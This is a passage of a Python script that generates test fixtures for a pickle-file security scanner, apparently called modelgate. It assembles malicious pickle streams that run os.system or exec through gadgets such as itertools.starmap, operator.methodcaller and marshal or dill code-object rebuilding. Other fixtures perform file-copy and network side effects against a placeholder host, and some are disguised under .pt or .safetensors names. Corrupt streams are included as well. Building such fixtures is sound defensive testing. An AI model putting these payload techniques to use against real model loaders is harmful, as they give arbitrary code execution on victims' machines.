      .raw(b"\x86").reduce().raw(b"\x85").reduce().stop().done(),
      "MG-PKL-100", "tuple(map(os.system, [cmd])): dangerous callable passed, never REDUCEd directly")
    M("lazy_itertools_starmap",
      Asm(2).glob("builtins", "tuple").glob("itertools", "starmap").glob("builtins", "exec")
      .push([(PYCODE,)]).raw(b"\x86").reduce().raw(b"\x85").reduce().stop().done(),
      "MG-PKL-100", "tuple(itertools.starmap(exec, [(code,)])) forcing a lazy iterator")
    M("lazy_operator_methodcaller",
      Asm(2).glob("operator", "methodcaller").call("system", CMD).glob("posixpath", "os")
      .raw(b"\x85").reduce().stop().done(),
      "MG-PKL-100",
      "operator.methodcaller('system', cmd)(posixpath.os): method name is data, not an import")
    M("lazy_operator_attrgetter",
      Asm(2).glob("operator", "attrgetter").call("system").glob("posixpath", "os")
      .raw(b"\x85").reduce().call(CMD).stop().done(),
      "MG-PKL-100", "operator.attrgetter('system')(posixpath.os)(cmd)")


def malicious_code_objects():
    code = compile(PYCODE, "<modelgate-fixture>", "exec")
    blob = marshal.dumps(code)
    M("marshal_loads_functiontype",
      Asm(3).glob("types", "FunctionType").glob("marshal", "loads").push((blob,)).reduce()
      .raw(b"}\x86").reduce().raw(b")").reduce().stop().done(),
      "MG-PKL-100", "types.FunctionType(marshal.loads(bytes), {})() builds and runs a code object")
    fields = (code.co_argcount, code.co_posonlyargcount, code.co_kwonlyargcount, code.co_nlocals,
              code.co_stacksize, code.co_flags, code.co_code, code.co_consts, code.co_names,
              code.co_varnames, code.co_filename, code.co_name, code.co_qualname,
              code.co_firstlineno, code.co_linetable, code.co_exceptiontable, code.co_freevars,
              code.co_cellvars)
    # _create_function(code, {}, "f", None, None): 5-tuple, so MARK ... TUPLE
    a = Asm(3).glob("dill._dill", "_create_function").mark().glob("dill._dill", "_create_code")
    a.push(fields).reduce().raw(b"}").push("f").push(None).push(None).raw(b"t").reduce()
    M("dill_create_code", a.raw(b")").reduce().stop().done(), "MG-PKL-100",
      "dill._dill._create_code + _create_function: code object rebuilt from fields, then called")


def malicious_side_effects():
    M("logging_filehandler", p2_call("logging", "FileHandler", "/tmp/modelgate-fixture.log"),
      "MG-PKL-100", "file creation primitive logging.FileHandler(path)")
    M("io_fileio_alias", p2_call("_io", "FileIO", "/tmp/modelgate-fixture.out", "w"),
      "MG-PKL-100", "file open primitive _io.FileIO (C module name, alias of io)")
    M("shutil_copy", p2_call("shutil", "copy", "/etc/hostname", "/tmp/modelgate-fixture.copy"),
      "MG-PKL-100", "file copy primitive shutil.copy")
    M("urllib_urlopen", p2_call("urllib.request", "urlopen", "http://modelgate-fixture.invalid/x"),
      "MG-PKL-100", "network primitive urllib.request.urlopen")
    M("webbrowser_open", p2_call("webbrowser", "open", "http://modelgate-fixture.invalid/x"),
      "MG-PKL-100", "process/network primitive webbrowser.open")
    M("unknown_thirdparty_callable", p2_call("mylib.helpers", "do_thing", "modelgate-fixture"),
      "MG-PKL-102", "import of a callable on no allowlist (mylib.helpers.do_thing)")


def malicious_spoofed_names():
    M("spoofed_ext_os_system_p0", p0_classic("os", "system", CMD), "MG-PKL-100",
      "raw protocol-0 pickle named .pt (torch legacy loader unpickles it)", ext=".pt")
    M("spoofed_ext_os_system_p2", os_system_p2(), "MG-PKL-100",
      "protocol-2 pickle named .safetensors (detection by content, not extension)", ext=".safetensors")
    M("spoofed_ext_os_system_noext", os_system_p2(), "MG-PKL-100",
      "protocol-2 pickle with no file extension", ext="")


# ---------------------------------------------------------------------------
# Malformed fixtures: the parse must fail with MG-PKL-400 (and a byte offset).
# ---------------------------------------------------------------------------


def malformed():
    def F(name, data, what, outcome="BLOCKED", threats="MG-PKL-400"):
        emit(f"malformed/{name}.pkl", data, outcome, threats, what)

    F("proto_only", b"\x80\x02", "stream declares protocol 2 and ends: no opcodes, no STOP")
    F("truncated_binunicode_length", b"\x80\x04X\x05\x00", "BINUNICODE whose 4-byte length is cut to 2")
    F("truncated_binunicode_data", b"\x80\x02X\x10\x00\x00\x00abc",
      "BINUNICODE declares 16 bytes, 3 present")
    F("unknown_opcode", b"\x80\x02}\xff.", "unknown opcode 0xff after a valid EMPTY_DICT")
    F("stack_underflow_reduce", b"\x80\x02R.", "REDUCE on an empty stack")
    F("binget_missing_key", b"\x80\x02}q\x00h\x07.", "BINGET of memo key 7, only key 0 stored")
    F("appends_without_mark", b"\x80\x02]K\x01e.", "APPENDS with no MARK on the stack")
    F("negative_binstring_length", b"\x80\x02T\xfe\xff\xff\xffabc.", "BINSTRING with length -2")
    F("long4_huge_length", b"\x80\x02\x8b\xff\xff\xff\x7f\x01.",
      "LONG4 declares 2 GiB of digits; must not allocate or read past the end")
    F("long4_negative_length", b"\x80\x02\x8b\x00\x00\x00\x80\x01.", "LONG4 with negative length")
    F("binbytes8_huge_length", b"\x80\x04\x8e\xff\xff\xff\xff\xff\xff\xff\xff\x00.",
      "BINBYTES8 declares 2^64-1 bytes")
    F("frame_longer_than_data", b"\x80\x04\x95\x00\x01\x00\x00\x00\x00\x00\x00}.",
      "FRAME declares 256 bytes, 2 follow (benign content)")
    F("frame_length_overflow", b"\x80\x04\x95\xff\xff\xff\xff\xff\xff\xff\xff}.",
      "FRAME length 2^64-1 (overflows any signed size)")
    # the loader refuses these before anything runs, and they do not look enough like pickles to be
    # claimed (random data would look the same): reported as an unknown format, not as a threat
    F("unsupported_protocol", b"\x80\x09}.", "PROTO 9: unknown protocol version, refused before anything runs",
      outcome="ALLOWED", threats="-")
    F("missing_stop", b"\x80\x02}q\x00(X\x01\x00\x00\x00aK\x01u", "valid opcodes, EOF without STOP")
    F("string_unquoted", b"Sabc\n.", "protocol-0 STRING argument without quotes, no import: unknown format",
      outcome="ALLOWED", threats="-")
    F("get_non_numeric_key", b"(lp0\ngabc\n.",
      "protocol-0 GET with a non-numeric memo key, three opcodes and no import: unknown format",
      outcome="ALLOWED", threats="-")
    F("setitems_odd_count", b"\x80\x02}(K\x01u.", "SETITEMS with an odd number of items after MARK")
    F("pop_mark_without_mark", b"\x80\x02K\x011.", "POP_MARK with no MARK on the stack")
    F("binunicode_invalid_utf8", b"\x80\x02X\x02\x00\x00\x00\xff\xfe.",
      "BINUNICODE payload is not UTF-8")
    F("trailing_junk_after_stop", pickle.dumps({"a": 1}, protocol=2) + b"\x00\x00MODELGATE-TRAILER",
      "benign pickle then non-pickle bytes after STOP: violates Model Files Are Well-Formed (HIGH)",
      outcome="BLOCKED", threats="MG-PKL-401")


def main():
    global OUT
    if len(sys.argv) != 2:
        sys.exit("usage: make_pickle_fixtures.py OUTDIR")
    OUT = sys.argv[1]
    for sub in ("benign", "malicious", "malformed"):
        d = os.path.join(OUT, sub)
        os.makedirs(d, exist_ok=True)
        for f in os.listdir(d):  # this script owns these directories: drop stale fixtures
            p = os.path.join(d, f)
            if os.path.isfile(p):
                os.unlink(p)

    benign_builtins()
    benign_stdlib()
    benign_numpy()
    benign_sklearn()
    benign_torch()
    malicious_basic()
    malicious_string_operands()
    malicious_memo()
    malicious_ext()
    malicious_structure()
    malicious_import_tricks()
    malicious_gadgets()
    malicious_nested()
    malicious_sinks()
    malicious_code_objects()
    malicious_side_effects()
    malicious_spoofed_names()
    malformed()

    for rel, _, _, _ in MANIFEST:
        if rel.startswith("benign/"):
            assert os.path.getsize(os.path.join(OUT, rel)) < 200 * 1024, rel
    with open(os.path.join(OUT, "expected.tsv"), "w", encoding="utf-8", newline="\n") as f:
        for line in sorted(MANIFEST):
            f.write("\t".join(line) + "\n")
    counts = collections.Counter(rel.split("/")[0] for rel, *_ in MANIFEST)
    print(" ".join(f"{k}={v}" for k, v in sorted(counts.items())), "total=%d" % len(MANIFEST))


if __name__ == "__main__":
    main()
